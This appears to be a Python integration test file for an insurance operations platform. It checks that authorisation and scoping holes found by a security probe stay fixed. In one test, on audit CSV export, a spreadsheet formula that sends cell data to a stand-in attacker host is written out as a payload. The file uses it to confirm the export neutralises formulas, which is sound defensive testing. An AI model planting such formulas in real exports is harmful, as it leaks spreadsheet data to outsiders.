"""The domain and authorisation holes of issue 12's probe, each on the real stack through the gateway: a
hand-made contract bound to another department's deal, a roll-up counting subsidiaries out of scope, a ticket
linking another department's client and deal, any id as a contract's specialist, another department's workload
answered 403, an audit cursor with a huge position a 500, and an audit CSV export a spreadsheet runs as
formulas. Each test failed before its fix."""

from __future__ import annotations

import base64
import csv
import io
import uuid
from decimal import Decimal

from shared.contracts import FieldChange
from shared.contracts.clients import ClientUpdated
from tests.conftest import assert_problem, wait_until
from tests.integration.clients_contracts_helpers import (
    SALES_EMPLOYEE,
    SALES_MANAGER,
    TECH_EMPLOYEE,
    TECH_MANAGER,
    business_today,
    create_client,
    department_id,
    headers_for,
    in_force_terms,
    line_named,
    me,
    tag,
)


async def _open_deal(gateway, headers, client_id: str, line: str, admin_headers) -> dict:
    line_id = (await line_named(gateway, admin_headers, line))["id"]

    async def opened():
        response = await gateway.post(
            "/api/v1/opportunities",
            headers=headers,
            json={"client_id": client_id, "line_id": line_id, "title": f"Security probe {tag()}"},
        )
        if response.status_code == 422 and "body.client_id" in response.text:
            return None  # pipeline has not heard of the client yet
        assert response.status_code == 201, response.text
        return response.json()

    return await wait_until(opened, timeout=20, what="the deal to open")


async def _post_until_known(gateway, path: str, headers, body: dict, field: str = "body.client_id"):
    """POST a record naming a client made a moment ago: the owning service learns clients from their events."""

    async def attempt():
        response = await gateway.post(path, headers=headers, json=body)
        if response.status_code == 422 and field in response.text and "no client" in response.text:
            return None
        return response

    return await wait_until(attempt, timeout=20, what=f"POST {path} to know the client")


# High: a hand-made contract bound to another department's deal -------------------------------------------------
async def test_a_hand_made_contract_names_no_deal_so_the_acceptance_makes_the_deals_contract(gateway, admin_headers):
    sales, tech = await headers_for(gateway, SALES_MANAGER), await headers_for(gateway, TECH_MANAGER)
    client = await create_client(gateway, sales, name=f"Probe Shipping {tag()}")
    their_client = await create_client(gateway, tech, name=f"Probe Tech Client {tag()}")
    deal = await _open_deal(gateway, sales, client["id"], "Marine", admin_headers)

    # Another department's Manager binds a contract of their own client to the deal: refused, naming the field.
    body = {"client_id": their_client["id"], **in_force_terms(), "opportunity_id": deal["id"]}
    assert_problem(await _post_until_known(gateway, "/api/v1/contracts", tech, body), 422, "body.opportunity_id")
    # So is the deal's own Manager, for the deal's own client: a deal's contract comes from its acceptance only.
    body = {"client_id": client["id"], **in_force_terms(), "opportunity_id": deal["id"]}
    assert_problem(await _post_until_known(gateway, "/api/v1/contracts", sales, body), 422, "body.opportunity_id")
    listed = await gateway.get("/api/v1/contracts", headers=admin_headers, params={"opportunity_id": deal["id"]})
    assert listed.json()["items"] == []

    while deal["stage"]["key"] != "client_decision":
        moved = await gateway.post(
            f"/api/v1/opportunities/{deal['id']}/advance",
            headers=admin_headers,
            json={"from_stage": deal["stage"]["key"]},
        )
        assert moved.status_code == 200, moved.text
        deal = moved.json()
    accepted = await gateway.post(
        f"/api/v1/opportunities/{deal['id']}/accept", headers=sales, json=in_force_terms(premium="4321.00")
    )
    assert accepted.status_code == 200, accepted.text

    async def the_deals_contract():
        r = await gateway.get("/api/v1/contracts", headers=admin_headers, params={"opportunity_id": deal["id"]})
        return r.json()["items"] or None

    [contract] = await wait_until(the_deals_contract, timeout=10, what="the contract the acceptance creates")
    assert (contract["origin"], contract["client_id"], contract["premium"]) == ("deal", client["id"], "4321.00")
    issued = await gateway.post(
        f"/api/v1/contracts/{contract['id']}/issue",
        headers=sales,
        json={"policy_number": f"PRB-{tag()}", "issue_date": business_today().isoformat()},
    )
    assert issued.status_code == 200, issued.text

    async def won():
        body = (await gateway.get(f"/api/v1/opportunities/{deal['id']}", headers=admin_headers)).json()
        return body if body["status"] == "won" else None

    assert (await wait_until(won, timeout=10, what="the deal completed"))["contract_id"] == contract["id"]


# Low: a roll-up counting subsidiaries out of scope ---------------------------------------------------------------
async def test_a_clients_rollup_counts_only_the_subsidiaries_the_caller_may_see(gateway, admin_headers):
    sales = await headers_for(gateway, SALES_MANAGER)
    sales_id = await department_id(gateway, admin_headers, "Sales")
    tech_id = await department_id(gateway, admin_headers, "Technical")
    parent = await create_client(gateway, admin_headers, name=f"Probe Holding {tag()}", department_id=sales_id)
    subsidiary = await create_client(
        gateway, admin_headers, name=f"Probe Subsidiary {tag()}", department_id=tech_id, parent_id=parent["id"]
    )
    for client, premium in ((parent, "1000.00"), (subsidiary, "999999.00")):
        body = {
            "client_id": client["id"],
            **in_force_terms(premium=premium),
            "policy_number": f"PRB-{tag()}-{tag()}",
            "issue_date": business_today().isoformat(),
        }
        response = await _post_until_known(gateway, "/api/v1/contracts", admin_headers, body)
        assert response.status_code == 201, response.text

    async def rollup(headers, active: int):
        r = await gateway.get(f"/api/v1/clients/{parent['id']}/rollup", headers=headers)
        assert r.status_code == 200, r.text
        return r.json() if r.json()["active_contracts"] == active else None

    everything = await wait_until(lambda: rollup(admin_headers, 2), timeout=10, what="the Admin's roll-up of both")
    assert everything["clients"] == 2
    assert [Decimal(t["annual_premium"]) for t in everything["premium_by_currency"]] == [Decimal("1000999.00")]
    seen = await rollup(sales, 1)
    assert seen is not None, "the Sales Manager's roll-up counts the Technical subsidiary's contract"
    assert seen["clients"] == 1
    assert [Decimal(t["annual_premium"]) for t in seen["premium_by_currency"]] == [Decimal("1000.00")]
    subtree = (await gateway.get(f"/api/v1/clients/{parent['id']}/subtree", headers=sales)).json()
    assert [c["id"] for c in subtree] == [parent["id"]]  # the roll-up is over what the subtree shows


# Low: a ticket linking another department's client and deal ------------------------------------------------------
async def test_a_ticket_links_only_the_callers_clients_and_deals(gateway, admin_headers):
    sales, tech = await headers_for(gateway, SALES_MANAGER), await headers_for(gateway, TECH_MANAGER)
    client = await create_client(gateway, sales, name=f"Probe Ticket Client {tag()}")
    other = await create_client(gateway, sales, name=f"Probe Other Client {tag()}")
    deal = await _open_deal(gateway, sales, client["id"], "Property", admin_headers)  # at First Contact (Sales)
    tech_client = await create_client(gateway, tech, name=f"Probe Tech Ticket {tag()}")

    def ticket(**links) -> dict:
        return {"title": f"Probe ticket {tag()}", "priority": "low", **links}

    async def open_ticket(headers, body: dict):
        """201 once tasks has heard of the client and the deal (from clients' events, and routing's first task)."""

        async def attempt():
            r = await gateway.post("/api/v1/tasks", headers=headers, json=body)
            return None if r.status_code == 422 and ("no client" in r.text or "no deal" in r.text) else r

        return await wait_until(attempt, timeout=20, what="tasks to know the ticket's links")

    # Own links work (and tasks knows the clients and the deal from then on) ...
    mine = await open_ticket(tech, ticket(client_id=tech_client["id"]))
    assert mine.status_code == 201, mine.text
    theirs = await open_ticket(sales, ticket(client_id=client["id"], opportunity_id=deal["id"]))
    assert theirs.status_code == 201, theirs.text
    assert (theirs.json()["client_id"], theirs.json()["opportunity_id"]) == (client["id"], deal["id"])
    assert theirs.json()["department_id"] == (await me(gateway, sales))["department_id"]

    # ... another department's are answered like unknown ones, even for a ticket of the caller's own department.
    body = assert_problem(
        await gateway.post("/api/v1/tasks", headers=tech, json=ticket(client_id=client["id"])), 422, "body.client_id"
    )
    assert body["errors"][0]["message"] == f"no client {client['id']}"  # answered like an unknown client
    assert_problem(
        await gateway.post("/api/v1/tasks", headers=tech, json=ticket(opportunity_id=deal["id"])),
        422,
        "body.opportunity_id",
    )
    employee = await headers_for(gateway, TECH_EMPLOYEE)
    assert_problem(
        await gateway.post("/api/v1/tasks", headers=employee, json=ticket(client_id=client["id"])),
        422,
        "body.client_id",
    )
    # A deal of another client than the one linked.
    assert (await open_ticket(sales, ticket(client_id=other["id"]))).status_code == 201
    assert_problem(
        await gateway.post(
            "/api/v1/tasks",
            headers=sales,
            json=ticket(client_id=other["id"], opportunity_id=deal["id"]),
        ),
        422,
        "body.opportunity_id",
    )


# Low: any id as a contract's specialist -------------------------------------------------------------------------
async def test_a_contracts_specialist_is_an_active_colleague(gateway, admin_headers):
    sales = await headers_for(gateway, SALES_MANAGER)
    client = await create_client(gateway, sales, name=f"Probe Specialist Client {tag()}")
    sales_id = (await me(gateway, sales))["department_id"]
    gone = await gateway.post(
        "/api/v1/users",
        headers=admin_headers,
        json={
            "name": f"Probe Leaver {tag()}",
            "email": f"probe-{uuid.uuid4().hex[:12]}@insureops.example.com",
            "password": "probe-leaver-pass-9",
            "role": "Employee",
            "active": False,
            "department_id": sales_id,
        },
    )
    assert gone.status_code == 201, gone.text
    colleague = (await me(gateway, await headers_for(gateway, SALES_EMPLOYEE)))["id"]
    outsider = (await me(gateway, await headers_for(gateway, TECH_EMPLOYEE)))["id"]

    def contract(specialist_id: str) -> dict:
        return {"client_id": client["id"], **in_force_terms(), "specialist_id": specialist_id}

    for specialist, message in (
        (str(uuid.uuid4()), "no user"),
        (gone.json()["id"], "deactivated"),
        (outsider, "not a member of your department"),
    ):
        body = assert_problem(
            await _post_until_known(gateway, "/api/v1/contracts", sales, contract(specialist)),
            422,
            "body.specialist_id",
        )
        assert message in body["errors"][0]["message"], body
    made = await gateway.post("/api/v1/contracts", headers=sales, json=contract(colleague))
    assert made.status_code == 201 and made.json()["specialist_id"] == colleague, made.text


# Low: another department's workload -----------------------------------------------------------------------------
async def test_another_departments_workload_is_answered_like_an_unknown_one(gateway, admin_headers):
    sales = await headers_for(gateway, SALES_MANAGER)
    tech_id = await department_id(gateway, admin_headers, "Technical")
    theirs = assert_problem(
        await gateway.get("/api/v1/workload", headers=sales, params={"department_id": tech_id}), 404
    )
    unknown = assert_problem(
        await gateway.get("/api/v1/workload", headers=sales, params={"department_id": str(uuid.uuid4())}), 404
    )
    assert theirs["title"] == unknown["title"]
    assert (await gateway.get("/api/v1/workload", headers=sales)).status_code == 200


# Low and Medium: audit's cursor and CSV export ------------------------------------------------------------------
async def test_an_audit_cursor_with_a_huge_position_is_a_422_naming_it(gateway, admin_headers):
    for position in (2**63, 10**30):
        cursor = base64.urlsafe_b64encode(f"seq|{position}".encode()).decode()
        assert_problem(
            await gateway.get("/api/v1/audit/records", headers=admin_headers, params={"cursor": cursor}),
            422,
            "query.cursor",
        )


async def test_an_audit_csv_export_runs_no_formula(gateway, admin_headers, publish_event):
    client_id = uuid.uuid4()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    await publish_event(
        ClientUpdated(client_id=client_id, changes={"name": FieldChange(before="A", after="B")}), subject=formula
    )

    async def recorded():
        r = await gateway.get("/api/v1/audit/records", headers=admin_headers, params={"client_id": str(client_id)})
        return r.json()["items"] or None

    [record] = await wait_until(recorded, timeout=20, what="the record in audit")
    assert record["aggregate_id"] == formula  # the record keeps what was sent
    response = await gateway.get(
        "/api/v1/audit/export", headers=admin_headers, params={"client_id": str(client_id), "format": "csv"}
    )
    assert response.status_code == 200, response.text
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["aggregate_id"] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
